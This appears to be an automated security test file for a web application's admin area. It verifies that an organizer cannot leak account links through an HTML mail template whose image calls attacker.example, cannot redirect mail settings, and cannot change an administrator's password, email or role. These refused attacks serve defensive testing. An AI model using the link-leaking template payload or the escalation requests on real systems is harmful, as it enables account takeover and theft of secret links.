/** An organizer tries to become an administrator through templates, the mail server and other accounts. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { aNewEmail, anAccount, fillLogin, logInByForm, waitForAccountLink } from '#tests/kit/accounts.ts'
import { callApi, expectingRefusals, mailTextsTo } from '#tests/kit/attacks.ts'
import { openPage, visit } from '#tests/kit/browser.ts'
import { templateCard, templatesPath } from '#tests/kit/mail-templates.ts'
import { proveIdentity } from '#tests/kit/reauthentication.ts'
import { queryDatabase } from '#tests/kit/registration-form.ts'
import { startSmtpServer, type TestSmtpServer } from '#tests/kit/smtp-server.ts'
import { aMark } from '#tests/kit/staff-people.ts'
import { menuButton, pressable, toastSaying } from '#tests/kit/user-management.ts'

let ownServer: TestSmtpServer

beforeAll(async () => {
  ownServer = await startSmtpServer()
})
afterAll(() => ownServer.close())

/** Freshly re-authenticated, so refusals are not due to the session. */
async function anOrganizer() {
  const account = await anAccount({ role: 'organizer' })
  const { page } = await openPage({ expected: expectingRefusals })
  await logInByForm(page, account.email)
  await proveIdentity(page)
  return { page, account }
}

const image = (name: string) => `<img src="https://attacker.example/?{{ ${name} }}">`

describe("An organizer's template with an image that would leak secret links", () => {
  test('is rejected in the form, which does not offer account link templates', async () => {
    const { page } = await anOrganizer()
    const name = `Link collector ${aMark()}`
    await visit(page, templatesPath)
    await pressable(page, 'New Template').click()
    const form = page.getByRole('dialog', { name: 'Create New Template' })
    const types = form.getByRole('combobox', { name: 'Template Type' })
    const offered = await types
      .getByRole('option')
      .evaluateAll((all) => all.map((one) => one.getAttribute('value')))
    expect(offered).toContain('invitation')
    for (const type of ['account_link', 'security_notice', 'payment_rejected', 'registrations_link'])
      expect(offered).not.toContain(type)
    await form.getByRole('textbox', { name: 'Template Name' }).fill(name)
    await types.selectOption('registration_confirmation')
    await form.getByRole('textbox', { name: 'Subject' }).fill('Welcome')
    await form.getByRole('textbox', { name: 'Text Content' }).fill('Welcome')
    await form.getByRole('textbox', { name: 'HTML Content' }).fill(image('accountLink'))
    await pressable(form, 'Create Template').click()
    const unknown = 'There is no variable "accountLink" in this type of message.'
    await toastSaying(page, `Failed to create template: Line 1: ${unknown}`).waitFor()
    await visit(page, templatesPath)
    expect(await templateCard(page, name).count()).toBe(0)
  })

  test('is rejected by the API, and account link e-mails reference no other server', async () => {
    const { page } = await anOrganizer()
    const template = (templateType: string, linkName: string) => ({
      templateName: `Link collector ${aMark()}`,
      templateType,
      subjectTemplate: 'Welcome',
      htmlTemplate: image(linkName),
      textTemplate: 'Welcome',
      isActive: true,
    })
    const create = '/email/templates/create'
    expect((await callApi(page, create, template('account_link', 'accountLink'))).status).toBe(403)
    expect((await callApi(page, create, template('payment_rejected', 'proofLink'))).status).toBe(403)
    const misplaced = await callApi(page, create, template('invitation', 'unsubscribeLink'))
    expect(misplaced.status).toBe(400)
    expect(misplaced.text).toContain('can only be used as the full address of a link')

    const victim = await anAccount()
    expect((await callApi(page, '/users/send-password-link', { userId: victim.id })).status).toBe(200)
    await waitForAccountLink(victim.email)
    expect((await mailTextsTo(victim.email)).join('')).not.toContain('attacker')
    const stored = await queryDatabase("select id from email_templates where html_template like '%attacker%'")
    expect(stored).toEqual([])
  })
})

test("Organizer attack: the mail server cannot be changed, and e-mail still uses the site's server", async () => {
  const { page } = await anOrganizer()
  await visit(page, '/email-integration')
  await page.getByText('Only administrators can change the mail server and the sender.').waitFor()
  expect(await page.getByRole('form', { name: 'Mail settings' }).count()).toBe(0)
  const changes = [
    { baseUrl: ownServer.url, apiKey: 'own-key' },
    { senderEmail: 'cpd@attacker.example' },
    { replyToEmail: 'cpd@attacker.example' },
    { webhookSecret: 'a secret of their own 1' },
  ]
  // Other tests may have saved settings.
  const before = await queryDatabase('select * from mail_settings')
  for (const change of changes) expect((await callApi(page, '/email/config/update', change)).status).toBe(403)

  const victim = await anAccount()
  expect((await callApi(page, '/users/send-password-link', { userId: victim.id })).status).toBe(200)
  await waitForAccountLink(victim.email)
  expect(ownServer.received).toEqual([])
  expect(await queryDatabase('select * from mail_settings')).toEqual(before)
})

test("Organizer attack: neither an administrator's account nor the own role can be changed", async () => {
  const { page, account } = await anOrganizer()
  const admin = await anAccount({ role: 'admin', displayName: `Adam ${aMark()}` })
  await visit(page, `/admin?search=${admin.email}`)
  await page.getByText(admin.email).first().waitFor()
  expect(await menuButton(page, admin.displayName).count()).toBe(0)
  const newEmail = aNewEmail()
  const newPassword = 'chosen by the organizer 9'
  const attempts: readonly (readonly [string, unknown])[] = [
    ['/users/change-password', { userId: admin.id, newPassword }],
    ['/users/update-email', { userId: admin.id, newEmail }],
    ['/users/update-details', { userId: admin.id, email: newEmail }],
    ['/users/update-details', { userId: admin.id, role: 'staff' }],
    ['/users/update-details', { userId: account.id, role: 'admin' }],
    ['/users/send-password-link', { userId: admin.id }],
    ['/users/remove-second-factors', { userId: admin.id }],
    ['/users/delete', { userId: admin.id }],
    ['/users', { displayName: 'Second self', email: newEmail, password: newPassword, role: 'admin' }],
    ['/attendees/update-profile', { userId: account.id, role: 'admin' }],
  ]
  for (const [path, data] of attempts)
    expect([path, (await callApi(page, path, data)).status]).toEqual([path, 403])

  const { page: administrator } = await openPage()
  await visit(administrator, '/login')
  await fillLogin(administrator, admin.email)
  await administrator.waitForURL('/dashboard')
  await visit(administrator, `/admin?search=${account.email}`)
  await administrator.getByText(account.email).first().waitFor()
  const rows = await queryDatabase('select role, email from people where id = any($1) order by id', [
    [account.id, admin.id],
  ])
  expect(rows).toEqual([
    { role: 'organizer', email: account.email },
    { role: 'admin', email: admin.email },
  ])
  expect(await queryDatabase('select id from people where email = $1', [newEmail])).toEqual([])
})
